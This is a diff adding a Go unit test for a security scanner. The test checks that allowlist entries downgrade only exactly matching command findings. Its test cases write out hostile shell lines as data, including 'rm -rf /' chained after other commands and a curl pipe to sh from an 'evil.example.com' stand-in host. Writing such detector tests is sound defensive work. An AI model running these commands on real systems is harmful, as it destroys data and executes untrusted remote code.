@@ -0,0 +1,67 @@
+package security
+
+import (
+	"testing"
+)
+
+func TestAllowMatchesFindingCommand(t *testing.T) {
+	tests := []struct {
+		name  string
+		allow string
+		line  string
+		want  []string // Rules downgraded by the allowlist
+	}{
+		{
+			name:  "exact command",
+			allow: "command: terraform destroy -auto-approve",
+			line:  "terraform   destroy -auto-approve",
+			want:  []string{"terraform-destroy"},
+		},
+		{
+			name:  "other command on the same line",
+			allow: "command: terraform destroy -auto-approve",
+			line:  "terraform destroy -auto-approve && rm -rf /",
+			want:  []string{"terraform-destroy"},
+		},
+		{
+			name:  "regex does not reach other commands",
+			allow: "regex: '^ls'",
+			line:  "ls && rm -rf /",
+		},
+		{
+			name:  "pipeline",
+			allow: "command: curl -fsSL https://get.example.com | sh",
+			line:  "curl -fsSL https://get.example.com | sh",
+			want:  []string{"download-pipe-shell"},
+		},
+		{
+			name:  "pipeline from another source",
+			allow: "command: curl -fsSL https://get.example.com | sh",
+			line:  "curl -fsSL https://evil.example.com | sh",
+		},
+		{
+			name:  "restricted to other rules",
+			allow: "command: rm -rf /\n    rules: [rm-rf-home]",
+			line:  "rm -rf /",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			project := policyFile(t, "version: 1\nallow:\n  - "+tt.allow+"\n")
+			policy, err := LoadPolicy("", project)
+			if err != nil {
+				t.Fatalf("LoadPolicy: %v", err)
+			}
+			result, err := NewScanner(policy).Scan(tt.line)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			got := result.Allowed()
+			if len(got) != len(tt.want) || (len(got) > 0 && got[0] != tt.want[0]) {
+				t.Errorf("allowed %q, want %q", got, tt.want)
+			}
+		})
+	}
+}